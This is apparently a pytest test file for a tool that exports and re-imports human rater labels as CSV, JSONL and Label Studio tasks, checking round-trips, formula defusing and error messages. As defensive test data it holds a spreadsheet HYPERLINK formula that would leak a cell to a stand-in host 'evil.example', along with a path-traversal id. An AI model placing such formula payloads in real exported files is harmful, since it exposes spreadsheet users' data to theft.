"""Labels go out and come back unharmed and uncounted twice; what cannot be taken is named by file and line."""

import base64
import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from faultfinder.memory.errors import LabelError
from faultfinder.memory.people_records import Answer, Ask, Label
from faultfinder.tools.people.exchange import defused, format_of, read_labels, restored, written
from tests.support.reviewing import MemoryDesk, label, png, question

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
ASKED = [
    question(1, a=FORMULA, b="+1 circle, or 'two'\nand a line"),
    question(2, Ask.MEANING),
    question(3, Ask.OPEN, text="@SUM(A1)", a="", b=""),
    question(
        4, Ask.RATING, before="=the input", after="-the inupt", a="a cat", b="a dog (97 %)", visit="explore-1-00001"
    ),
]
HEAD = "question,rater,answer"


def desk_with(*labels: Label) -> MemoryDesk:
    desk = MemoryDesk(ASKED)
    desk.append(labels)
    return desk


def exported(desk: MemoryDesk, path: Path) -> Path:
    for place, content in written(path, None, desk).items():
        place.write_bytes(content)
    return path


def read(path: Path, text: str, known: tuple[Label, ...] = ()) -> list[Label]:
    path.write_text(text, encoding="utf-8")
    return read_labels(path, None, ASKED, known)


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_labels_come_back_as_they_went(tmp_path: Path, ending: str) -> None:
    labels = (
        label(ASKED[0], "Ann", Answer.SECOND).model_copy(update={"note": FORMULA}),
        label(ASKED[0], "Bob", Answer.NEITHER).model_copy(update={"note": "'=quoted' \u2603\r\nnext"}),
        label(ASKED[2], "Ann", Answer.YES),
        label(ASKED[2], "Ann", None),
        label(ASKED[3], "Bob", Answer.R10),
        label(ASKED[3], "Ann", Answer.CANNOT_TELL),
    )
    path = exported(desk_with(*labels), tmp_path / f"answers.{ending}")
    assert read_labels(path, None, ASKED, []) == list(labels)
    other = desk_with(*labels)
    other.append(read_labels(path, None, ASKED, other.labels()))
    assert other.labels() == list(labels)


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    path = exported(
        desk_with(label(ASKED[0], "-Ann", Answer.FIRST).model_copy(update={"note": "=1+1"})), tmp_path / "answers.csv"
    )
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(ASKED)
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell]


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=12) | st.text("'=+-@\t\r\n\uff1d", max_size=6))
def test_every_cell_is_restored(cell: str) -> None:
    assert restored(defused(cell)) == cell
    assert defused(cell)[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_a_spreadsheet_can_answer_what_nobody_has(tmp_path: Path) -> None:
    path = exported(desk_with(label(ASKED[0], "Ann", Answer.FIRST)), tmp_path / "answers.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert [row["case"] for row in rows] == ["h1-p01", "", "", ""]
    assert read_labels(path, None, ASKED, [])[0].rater == "Ann"
    filled = io.StringIO(newline="")
    writer = csv.DictWriter(filled, list(rows[0]))
    writer.writeheader()
    writer.writerows(
        row | ({} if row["rater"] else {"rater": "Cem", "answer": row["choices"].split(" | ")[0]}) for row in rows
    )
    found = read(path, filled.getvalue())
    assert {each.rater for each in found[1:]} == {"Cem"}
    assert [each.answer for each in found[1:]] == [Answer.DIFFERENT, Answer.YES, Answer.R1]


def test_reading_twice_counts_once_and_a_changed_answer_counts(tmp_path: Path) -> None:
    desk = desk_with(label(ASKED[0], "Ann", Answer.FIRST))
    path = exported(desk, tmp_path / "answers.csv")
    text = path.read_text(encoding="utf-8-sig").replace(",first,,", ",neither,,")
    for _ in range(2):
        desk.append(read(path, text, tuple(desk.labels())))
    assert [each.answer for each in desk.labels()] == [Answer.FIRST, Answer.NEITHER]


def test_raters_are_spelt_as_they_are_known(tmp_path: Path) -> None:
    known = (label(ASKED[0], "Ann", Answer.FIRST),)
    text = f"{HEAD}\n{ASKED[1].id}, ANN ,Same\n{ASKED[2].id},bob,YES\n{ASKED[1].id},Bob,same\n"
    assert [each.rater for each in read(tmp_path / "a.csv", text, known)] == ["Ann", "bob", "bob"]


@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        ("a.csv", f"{HEAD}\nq-none,Ann,first\n", "a.csv:2: this audit asks no question 'q-none'"),
        ("a.csv", f"{HEAD}\n{ASKED[0].id},Ann,maybe\n", "a.csv:2: 'maybe' is no answer to this question"),
        ("a.csv", f"{HEAD}\n{ASKED[0].id},Ann,same\n", "it takes first, second, neither, cannot tell"),
        ("a.csv", f"{HEAD}\n\n{ASKED[0].id},,first\n", "a.csv:3: '' is no rater's name"),
        ("a.csv", f"{HEAD},note\n{ASKED[0].id},Ann,first,{'x' * 2001}\n", "a.csv:2: note: String should have at most"),
        ("a.csv", f"{HEAD},at\n{ASKED[0].id},Ann,first,yesterday\n", "a.csv:2: 'yesterday' is no moment"),
        ("a.csv", f'{HEAD}\n{ASKED[0].id},"Ann\n', "a.csv:2: no CSV"),
        ("a.csv", f"{HEAD},id\n{ASKED[0].id},Ann,first,../../x\n", "a.csv:2: id"),
        ("a.csv", "", "a.csv:1: the first line must name the columns"),
        ("a.csv", f"{HEAD}\n{'x' * 200_000},Ann,first\n", "no CSV: field larger"),
        ("a.jsonl", '{"question": "q"', "a.jsonl:1: no JSON"),
        ("a.jsonl", "\n[1]\n", "a.jsonl:2: no JSON object"),
        ("a.jsonl", '{"question": 5, "rater": "Ann", "answer": "first"}', "a.jsonl:1: question: Input should be"),
        ("a.jsonl", '{"rater": "Ann", "answer": "first"}', "a.jsonl:1: question: Field required"),
        ("a.jsonl", "[" * 100_000, "a.jsonl:1: no JSON"),
        ("a.json", "{}", "no list of tasks"),
        ("a.json", '[{"data": {"image": "x"}}]', "task 1: not a task of this audit's"),
        ("a.txt", "x", "not known how to read or write it"),
    ],
)
def test_what_cannot_be_taken_is_named(tmp_path: Path, name: str, text: str, says: str) -> None:
    with pytest.raises(LabelError) as trouble:
        read(tmp_path / name, text)
    assert says in str(trouble.value)


def test_nothing_of_a_bad_file_is_taken_and_the_first_troubles_are_named(tmp_path: Path) -> None:
    lines = "".join(f"q{number},Ann,first\n" for number in range(20))
    with pytest.raises(LabelError, match=r"(?s)a\.csv:3.*and 12 more.*Nothing of the file was taken"):
        read(tmp_path / "a.csv", f"{HEAD}\n{ASKED[0].id},Ann,first\n{lines}")


def test_files_that_are_none_are_a_message(tmp_path: Path) -> None:
    with pytest.raises(LabelError, match="cannot read"):
        read_labels(tmp_path / "none.csv", None, ASKED, [])
    (tmp_path / "wide.csv").write_bytes("question".encode("utf-16"))
    with pytest.raises(LabelError, match="not UTF-8"):
        read_labels(tmp_path / "wide.csv", None, ASKED, [])


def test_the_format_can_be_said() -> None:
    assert format_of(Path("a.txt"), "csv") == "csv"
    assert format_of(Path("A.JSONL"), None) == "jsonl"
    with pytest.raises(LabelError):
        format_of(Path("a.csv"), "xml")


def test_label_studio_gets_tasks_with_pictures_and_choices(tmp_path: Path) -> None:
    desk = desk_with(label(ASKED[0], "Ann", Answer.FIRST))
    path = exported(desk, tmp_path / "tasks.json")
    tasks = json.loads(path.read_text())
    assert [task["data"]["question"] for task in tasks] == [each.id for each in ASKED]
    assert base64.b64decode(tasks[0]["data"]["image"].partition(",")[2]) == png()
    assert [one["value"] for one in tasks[1]["data"]["choices"]] == ["different", "same", "cannot tell"]
    assert [one["value"] for one in tasks[3]["data"]["choices"]] == [*map(str, range(1, 11)), "cannot tell"]
    assert tasks[3]["data"]["second"] == "-the inupt\n\u2192 a dog (97 %)"
    assert "Ann" not in path.read_text()
    config = (tmp_path / "tasks.config.xml").read_text()
    assert all(f"${name}" in config for name in ("ask", "image", "first", "second", "choices"))


def annotation(answer: str | None, by: object, **more: object) -> dict[str, object]:
    chosen = [{"from_name": "answer", "to_name": "first", "type": "choices", "value": {"choices": [answer]}}]
    note = [{"from_name": "note", "to_name": "first", "type": "textarea", "value": {"text": ["odd"]}}]
    return {"id": 7, "completed_by": by, "result": (chosen if answer else []) + note, "lead_time": 4.2} | more


def test_what_label_studio_exports_is_read_back(tmp_path: Path) -> None:
    moment = "2026-03-05T14:02:11.528353Z"
    annotations = [
        annotation("neither", 12, created_at=moment),
        annotation("first", {"id": 3, "email": "ann@example.org"}),
        annotation("second", "bob@example.org", was_cancelled=True),
        annotation(None, 13),
    ]
    text = json.dumps([{"id": 1, "data": {"question": ASKED[0].id}, "annotations": annotations, "predictions": []}])
    found = read(tmp_path / "export.json", text)
    assert [(each.rater, each.answer, each.note) for each in found] == [
        ("annotator 12", Answer.NEITHER, "odd"),
        ("ann@example.org", Answer.FIRST, "odd"),
    ]
    assert found[0].at == "2026-03-05T14:02:11+00:00"
    assert [each.id for each in read(tmp_path / "export.json", text)] == [each.id for each in found]
